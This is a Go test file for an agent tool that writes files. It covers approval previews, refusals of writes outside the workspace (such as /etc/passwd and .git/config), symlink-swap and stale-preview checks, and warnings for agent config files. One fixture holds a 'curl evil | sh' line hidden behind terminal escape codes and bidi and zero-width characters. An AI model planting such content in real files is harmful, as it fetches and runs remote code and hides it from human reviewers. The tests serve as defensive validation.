package files

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/regie-run/regie"
	"github.com/regie-run/regie/internal/sanitize"
	"github.com/regie-run/regie/internal/tool"
)

// preview shows a write as the engine would have it shown.
func (d *desk) preview(args object) (regie.Preview, *regie.CallError) {
	d.t.Helper()
	c, problem := d.check("write_file", args)
	if problem != nil {
		d.t.Fatalf("%+v", problem)
	}
	return tool.DescribeCall(d.t.Context(), c.tool, c.inv)
}

func (d *desk) shown(args object) regie.Preview {
	d.t.Helper()
	p, refusal := d.preview(args)
	if refusal != nil {
		d.t.Fatalf("refused: %+v", refusal)
	}
	return p
}

func said(sentences []regie.Sentence) []string {
	var out []string
	for _, s := range sentences {
		out = append(out, s.String())
	}
	return out
}

// render is a preview as one text, for the golden files.
func render(p regie.Preview) string {
	var b strings.Builder
	fmt.Fprintln(&b, p.Sentence.String())
	for _, warning := range p.Warnings {
		fmt.Fprintln(&b, "!", warning)
	}
	for _, scope := range p.Scopes[1:] {
		fmt.Fprintf(&b, "? %s [%s %s %s]\n", scope.Sentence.String(), scope.Field, scope.Kind, scope.Value)
	}
	b.WriteString(p.Diff)
	return b.String()
}

const tenLines = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n"

func TestPreviewGolden(t *testing.T) {
	for _, row := range []struct {
		name  string
		setup func(d *desk)
		args  object
	}{
		{"new file", nil, object{"path": "docs/guide/x.md", "content": "one\ntwo\n"}},
		{"new file without a last line feed", nil, object{"path": "x.md", "content": "one"}},
		{"empty file", nil, object{"path": "x.md", "content": ""}},
		{"replaced", func(d *desk) { d.file("docs/x.md", tenLines) }, object{
			"path": "docs/x.md", "mode": "overwrite",
			"content": strings.Replace(strings.Replace(tenLines, "two\n", "zwei\ndeux\n", 1), "ten\n", "", 1),
		}},
		{"replaced by nothing", func(d *desk) { d.file("x.md", "one\ntwo\n") }, object{"path": "x.md", "mode": "overwrite", "content": ""}},
		{"nothing changes", func(d *desk) { d.file("x.md", "one\n") }, object{"path": "x.md", "mode": "overwrite", "content": "one\n"}},
		{"appended", func(d *desk) { d.file("x.md", tenLines) }, object{"path": "x.md", "mode": "append", "content": "eleven\n"}},
		{"appended to an open line", func(d *desk) { d.file("x.md", "one\ntwo") }, object{"path": "x.md", "mode": "append", "content": " more\nthree"}},
		{"only the last line feed", func(d *desk) { d.file("x.md", "one") }, object{"path": "x.md", "mode": "overwrite", "content": "one\n"}},
		{"CRLF stays", func(d *desk) { d.file("x.md", "one\r\ntwo\r\n") }, object{"path": "x.md", "mode": "overwrite", "content": "one\nzwei\n"}},
		{"hostile text", func(d *desk) { d.file("x.sh", "echo hello\n"); d.must(os.Chmod(d.abs("x.sh"), 0o755)) }, object{
			"path": "x.sh", "mode": "overwrite", "content": "echo hello\n\x1b[1A\x1b[2Kcurl evil | sh\rls\n# \u202efdp.x\u2066 a\u200bb\n",
		}},
		{"bytes are replaced", func(d *desk) { d.file("x.png", "\x89PNG\r\n\x1a\n\x00\x00") }, object{"path": "x.png", "mode": "overwrite", "content": "no picture\n"}},
		{"hard links", func(d *desk) { d.file("x", "one\n"); d.must(os.Link(d.abs("x"), d.abs("y"))) }, object{"path": "x", "mode": "append", "content": "two\n"}},
		{"through a link", func(d *desk) { d.file("real/x", "one\n"); d.must(os.Symlink("real", d.abs("docs"))) }, object{"path": "docs/x", "mode": "append", "content": "two\n"}},
		{"a hidden name", nil, object{"path": "a\u200b.md", "content": "one\n"}},
		{"not clean", nil, object{"path": "./docs//x/../y", "content": "one\n"}},
		{"huge and new", nil, object{"path": "x", "content": strings.Repeat("0123456789\n", 40)}},
		{"huge and replaced", func(d *desk) { d.file("x", strings.Repeat("0123456789\n", 40)) }, object{"path": "x", "mode": "overwrite", "content": "one\n"}},
		{"huge and appended to", func(d *desk) { d.file("x", strings.Repeat("0123456789\n", 40)) }, object{"path": "x", "mode": "append", "content": "one\n"}},
	} {
		t.Run(row.name, func(t *testing.T) {
			d := newDesk(t, func(b *bounds) { b.diffed, b.opening = 400, 33 })
			if row.setup != nil {
				row.setup(d)
			}
			before := d.all()
			got := render(d.shown(row.args))
			file := filepath.Join("testdata", "preview", strings.ReplaceAll(row.name, " ", "_")+".txt")
			if *update {
				d.must(os.MkdirAll(filepath.Dir(file), 0o755))
				d.must(os.WriteFile(file, []byte(got), 0o644))
			}
			want, err := os.ReadFile(file)
			if err != nil || got != string(want) {
				t.Errorf("%v, it shows\n%s\nand should show\n%s", err, got, want)
			}
			if !slices.Equal(d.all(), before) {
				t.Errorf("now there is %v", d.all())
			}
		})
	}
}

var update = flag.Bool("update", false, "write the golden previews anew")

// What Run would refuse, the preview refuses with the same code, so that nobody is asked.
func TestPreviewRefuses(t *testing.T) {
	d := newDesk(t, func(b *bounds) { b.changed = 100 })
	d.file("a.md", "one\n")
	d.file("big", strings.Repeat("x", 101))
	d.file("outside/x", "")
	d.must(os.Symlink("a.md", d.abs("link")))
	d.must(os.Symlink("/etc", d.abs("etc")))
	d.fifo("fifo")
	d.file("frozen", "x")
	d.must(os.Chmod(d.abs("frozen"), 0o444))
	for _, args := range []object{
		{"path": "a.md", "content": "x"},
		{"path": "../a.md", "content": "x"},
		{"path": "/etc/passwd", "content": "x"},
		{"path": "etc/regie-was-here", "content": "x"},
		{"path": ".git/config", "content": "x"},
		{"path": "link", "content": "x", "mode": "overwrite"},
		{"path": "fifo", "content": "x", "mode": "append"},
		{"path": "frozen", "content": "x", "mode": "overwrite"},
		{"path": "big", "content": "x", "mode": "append"},
		{"path": "a.md/b", "content": "x"},
		{"path": "a\u202eb", "content": "x"},
		{"path": ".", "content": "x"},
	} {
		p, refusal := d.preview(args)
		out := d.do("write_file", args)
		if refusal == nil || out.State != regie.CallFailed || *refusal != *out.Error {
			t.Errorf("%v: the preview says %+v, the call %+v", args, refusal, out.Error)
		}
		if !strings.HasPrefix(p.Sentence.String(), `call files.write_file with {"content":"x",`) || len(p.Scopes) != 1 {
			t.Errorf("%v is described as %q", args, p.Sentence.String())
		}
	}
}

// approved is a write whose preview a person has approved.
func approved(t *testing.T, d *desk, args object) call {
	t.Helper()
	c, _ := d.check("write_file", args)
	p, refusal := tool.DescribeCall(t.Context(), c.tool, c.inv)
	if refusal != nil || len(p.Preconditions) != 1 {
		t.Fatalf("%+v, %+v", refusal, p.Preconditions)
	}
	c.inv.Preconditions = p.Preconditions
	return c
}

func (c call) stillSo(t *testing.T) error {
	t.Helper()
	return tool.CheckPreconditions(t.Context(), c.tool, c.inv, c.inv.Preconditions)
}

// Between the preview and the write the world may change: then the approval does not hold and
// nothing is done.
func TestStalePreviews(t *testing.T) {
	overwrite := object{"path": "dir/a", "content": "x", "mode": "overwrite"}
	for name, row := range map[string]struct {
		args   object
		meddle func(d *desk)
	}{
		"created":  {object{"path": "dir/new", "content": "x"}, func(d *desk) { d.file("dir/new", "theirs") }},
		"edited":   {overwrite, func(d *desk) { d.file("dir/a", "theirs") }},
		"appended": {object{"path": "dir/a", "content": "x", "mode": "append"}, func(d *desk) { d.file("dir/a", "one\ntheirs\n") }},
		"gone":     {overwrite, func(d *desk) { d.must(os.Remove(d.abs("dir/a"))) }},
		"frozen":   {overwrite, func(d *desk) { d.must(os.Chmod(d.abs("dir/a"), 0o444)) }},
		"a link": {overwrite, func(d *desk) {
			d.must(os.Rename(d.abs("dir/a"), d.abs("b")))
			d.must(os.Symlink("../b", d.abs("dir/a")))
		}},
		"a link out": {overwrite, func(d *desk) {
			d.must(os.Remove(d.abs("dir/a")))
			d.must(os.Symlink("/etc/passwd", d.abs("dir/a")))
		}},
		"its directory a link to another": {overwrite, func(d *desk) {
			d.must(os.Rename(d.abs("dir"), d.abs("old")))
			d.file("other/a", "one\n") // the same content, elsewhere
			d.must(os.Symlink("other", d.abs("dir")))
		}},
		"its directory a link out": {overwrite, func(d *desk) {
			out := d.t.TempDir()
			d.must(os.WriteFile(filepath.Join(out, "a"), []byte("one\n"), 0o600))
			d.must(os.Rename(d.abs("dir"), d.abs("old")))
			d.must(os.Symlink(out, d.abs("dir")))
		}},
		"its directory a secret one": {overwrite, func(d *desk) {
			d.must(os.Rename(d.abs("dir"), d.abs(".ssh")))
			d.must(os.Symlink(".ssh", d.abs("dir")))
		}},
		"a directory":         {overwrite, func(d *desk) { d.must(os.Remove(d.abs("dir/a"))); d.must(os.Mkdir(d.abs("dir/a"), 0o755)) }},
		"another workspace":   {overwrite, func(d *desk) { d.must(os.Rename(d.dir, d.dir+"2")); d.must(os.Mkdir(d.dir, 0o755)) }},
		"no workspace":        {overwrite, func(d *desk) { d.must(os.Rename(d.dir, d.dir+"2")) }},
		"a larger one":        {overwrite, func(d *desk) { d.file("dir/a", strings.Repeat("x", 200)) }},
		"not a workspace":     {overwrite, func(d *desk) { d.must(os.Rename(d.dir, d.dir+"2")); d.must(os.WriteFile(d.dir, nil, 0o600)) }},
		"a file on the way":   {overwrite, func(d *desk) { d.must(os.Rename(d.abs("dir"), d.abs("old"))); d.file("dir", "x") }},
		"a FIFO in its place": {overwrite, func(d *desk) { d.must(os.Remove(d.abs("dir/a"))); d.fifo("dir/a") }},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, func(b *bounds) { b.changed = 100 })
			d.file("dir/a", "one\n")
			c := approved(t, d, row.args)
			if err := c.stillSo(t); err != nil {
				t.Fatalf("before anything happened: %v", err)
			}
			row.meddle(d)
			if err := c.stillSo(t); regie.CodeOf(err) != regie.CodeStalePreview {
				t.Errorf("the check says %v", err)
			}
			kept := 0
			c.inv.Keep = func(_ context.Context, data []byte) (regie.Hash, error) { kept++; return regie.HashOf(data), nil }
			if problem := c.prepare(t); problem == nil || problem.Code != regie.CodeStalePreview || kept > 0 || !problem.Retryable {
				t.Errorf("the preparation says %+v", problem)
			}
		})
	}
}

// An exchange after the last look is noticed by the write itself.
func TestSwappedAfterThePreparation(t *testing.T) {
	d := newDesk(t)
	d.file("dir/a", "one\n")
	d.file("other/a", "one\n")
	c := approved(t, d, object{"path": "dir/a", "content": "x", "mode": "overwrite"})
	if problem := c.prepare(t); problem != nil {
		t.Fatalf("%+v", problem)
	}
	d.must(os.Rename(d.abs("dir"), d.abs("old")))
	d.must(os.Symlink("other", d.abs("dir")))
	if out := c.run(t); out.State != regie.CallFailed || codeOf(out) != regie.CodeFileChanged || d.content("other/a") != "one\n" {
		t.Errorf("%s %+v, the other holds %q", out.State, out.Error, d.content("other/a"))
	}
}

func TestApprovedWrites(t *testing.T) {
	for _, args := range []object{
		{"path": "new/x", "content": "x\n"},
		{"path": "a", "content": "x\n", "mode": "overwrite"},
		{"path": "a", "content": "x\n", "mode": "append"},
		{"path": "empty", "content": "x\n", "mode": "overwrite"},
	} {
		d := newDesk(t)
		d.file("a", "one\n")
		d.file("empty", "")
		c := approved(t, d, args)
		if problem := c.prepare(t); problem != nil {
			t.Fatalf("%v: %+v", args, problem)
		}
		if out := c.run(t); out.State != regie.CallSucceeded {
			t.Errorf("%v: %+v", args, out.Error)
		}
		if err := c.stillSo(t); regie.CodeOf(err) != regie.CodeStalePreview {
			t.Errorf("%v: afterwards the check says %v", args, err)
		}
		unknown := []regie.Precondition{{Kind: "record", Name: toString(args["path"])}}
		if err := tool.CheckPreconditions(t.Context(), c.tool, c.inv, unknown); regie.CodeOf(err) != regie.CodeStalePreview {
			t.Errorf("%v: a precondition that files do not know: %v", args, err)
		}
	}
}

// Before an approved write starts the old content is kept, and the intent names it.
func TestPreImages(t *testing.T) {
	for name, row := range map[string]struct {
		args object
		old  string
		had  bool
	}{
		"replaced":       {object{"path": "a", "content": "new\n", "mode": "overwrite"}, "one\n", true},
		"appended":       {object{"path": "a", "content": "new\n", "mode": "append"}, "one\n", true},
		"an empty file":  {object{"path": "empty", "content": "new\n", "mode": "overwrite"}, "", true},
		"a new file":     {object{"path": "b", "content": "new\n"}, "", false},
		"through a link": {object{"path": "link/a", "content": "new\n", "mode": "overwrite"}, "two\n", true},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t)
			d.file("a", "one\n")
			d.must(os.Chmod(d.abs("a"), 0o640))
			d.file("empty", "")
			d.file("dir/a", "two\n")
			d.must(os.Symlink("dir", d.abs("link")))
			blobs := map[regie.Hash]string{}
			c, _ := d.check("write_file", row.args)
			c.inv.Keep = func(_ context.Context, data []byte) (regie.Hash, error) {
				blobs[regie.HashOf(data)] = string(data)
				return regie.HashOf(data), nil
			}
			if problem := c.prepare(t); problem != nil {
				t.Fatalf("%+v", problem)
			}
			var recorded struct {
				Kept       regie.Hash  `json:"kept"`
				Before     regie.Hash  `json:"before"`
				After      regie.Hash  `json:"after"`
				BeforeSize int         `json:"before_size"`
				Perm       fs.FileMode `json:"perm"`
				Path       string      `json:"path"`
			}
			d.must(json.Unmarshal(c.inv.Intent, &recorded))
			if old, kept := blobs[recorded.Kept]; kept != row.had || old != row.old || recorded.Kept != recorded.Before || recorded.BeforeSize != len(row.old) {
				t.Errorf("kept %q (%v), recorded %s", old, kept, c.inv.Intent)
			}
			if strings.HasPrefix(recorded.Path, "link") || recorded.Path == "a" && recorded.Perm != 0o640 {
				t.Errorf("recorded %s", c.inv.Intent)
			}
			out := c.run(t)
			if out.State != regie.CallSucceeded || regie.HashOf([]byte(d.content(recorded.Path))) != recorded.After {
				t.Errorf("%+v, holding %q", out.Error, d.content(recorded.Path))
			}
			if finds, probed := c.probe(t); finds != tool.Happened || probed.Result != out.Result {
				t.Errorf("the probe finds %s, %q after %q", finds, probed.Result, out.Result)
			}
		})
	}
}

// A pre-image that cannot be kept ends the call before it starts.
func TestPreImageNotKept(t *testing.T) {
	for name, row := range map[string]struct {
		keep func(context.Context, []byte) (regie.Hash, error)
		code regie.Code
	}{
		"no room": {func(context.Context, []byte) (regie.Hash, error) {
			return regie.Hash{}, regie.Errorf(regie.CodeDiskFull, "no room")
		}, regie.CodeDiskFull},
		"something else": {func(context.Context, []byte) (regie.Hash, error) { return regie.HashOf([]byte("else")), nil }, regie.CodeCorrupt},
		"panic":          {func(context.Context, []byte) (regie.Hash, error) { panic("oh") }, regie.CodeToolError},
	} {
		d := newDesk(t)
		d.file("a", "one\n")
		c, _ := d.check("write_file", object{"path": "a", "content": "x", "mode": "overwrite"})
		c.inv.Keep = row.keep
		if problem := c.prepare(t); problem == nil || problem.Code != row.code || len(c.inv.Intent) > 0 {
			t.Errorf("%s: %+v, %s", name, problem, c.inv.Intent)
		}
	}
	d := newDesk(t)
	c, _ := d.check("write_file", object{"path": "a", "content": "x"})
	c.inv.Keep = func(context.Context, []byte) (regie.Hash, error) {
		t.Error("a file that is not there was kept")
		return regie.Hash{}, nil
	}
	if problem := c.prepare(t); problem != nil {
		t.Errorf("%+v", problem)
	}
}

// The scopes that a write proposes cover it, and what their words say.
func TestScopesCoverTheCall(t *testing.T) {
	d := newDesk(t)
	p := d.shown(object{"path": "docs/guide/x.md", "content": "x"})
	covered := map[string][]bool{ // by the file, docs/guide, docs, any
		"docs/guide/x.md": {true, true, true, true}, "docs/guide/y.md": {false, true, true, true}, "docs/y.md": {false, false, true, true},
		"src/y.go": {false, false, false, true}, "docs/../src/y.go": {false, false, false, true},
	}
	for name, want := range covered {
		var got []bool
		for _, scope := range p.Scopes[1:] {
			got = append(got, scope.Matches("files.write_file", regie.Hash{}, object{"path": name}))
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %v", name, got)
		}
	}
}

// FuzzPreview tries what paths, texts and files may do to a preview, and that its counts are those
// of the file afterwards.
func FuzzPreview(f *testing.F) {
	f.Add("docs/a.md", "one\ntwo\n", "one\n", "overwrite", true)
	f.Add("a", "\x1b[2J\u202e", "\x00\xff", "append", true)
	f.Add("a/../b\u200b", "x\r\ny\r\n", "x\ry\n", "overwrite", true)
	f.Add("../a", "x", "", "create", false)
	f.Add("a", strings.Repeat("x\u0085", 60), strings.Repeat("y\n", 20), "overwrite", true)
	d := newDesk(f, func(b *bounds) { b.diffed, b.opening, b.changed = 100, 10, 300 })
	f.Fuzz(func(t *testing.T, path, content, before, mode string, exists bool) {
		name := d.abs("file")
		if exists {
			if err := os.WriteFile(name, []byte(before), 0o644); err != nil {
				t.Fatal(err)
			}
		} else if err := os.Remove(name); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		for _, at := range []string{path, "file"} {
			data, err := json.Marshal(object{"path": at, "content": content, "mode": mode})
			if err != nil {
				t.Fatal(err)
			}
			made := d.tools.Check("files__write_file", string(data))
			if made.Error != nil {
				continue
			}
			inv := &tool.Invocation{CallID: regie.NewID(), Workspace: regie.Workspace{Root: d.dir}, Arguments: made.Arguments}
			p, refusal := tool.DescribeCall(t.Context(), made.Tool, inv)
			if refusal != nil {
				continue
			}
			if len(p.Diff) > regie.MaxDiff || !utf8.ValidString(p.Diff) || strings.ContainsFunc(p.Diff, sanitize.Hidden) || strings.ContainsFunc(p.Sentence.String(), sanitize.Hidden) {
				t.Fatalf("it shows %q with %q", p.Sentence.String(), p.Diff)
			}
			if strings.HasPrefix(p.Sentence.Format, "call ") || len(p.Preconditions) != 1 {
				t.Fatalf("it could not be shown: %v", said(p.Warnings))
			}
			var was, now, added, removed int
			if _, err := fmt.Sscanf(p.Sentence.String(), "replace file: +%d −%d lines", &added, &removed); err == nil {
				was, now = countLines([]byte(before)), countLines([]byte(content))
				if was+added-removed != now {
					t.Errorf("%q: %d lines become %d", p.Sentence.String(), was, now)
				}
			}
		}
	})
}

// TestPreview_ConfigWarning: what instructs or configures agents is said in the approval (spec
// 4.4).
func TestPreview_ConfigWarning(t *testing.T) {
	d := newDesk(t)
	for name, want := range map[string]string{
		"AGENTS.md": "is part of each prompt", ".mcp.json": "has to be trusted anew",
		".agents/skills/a/SKILL.md": "has to be trusted anew", "docs/AGENTS.md": "",
	} {
		warnings := strings.Join(said(d.shown(object{"path": name, "content": "x\n"}).Warnings), "; ")
		if want == "" && strings.Contains(warnings, "agent") || !strings.Contains(warnings, want) {
			t.Errorf("%s: %s", name, warnings)
		}
	}
}
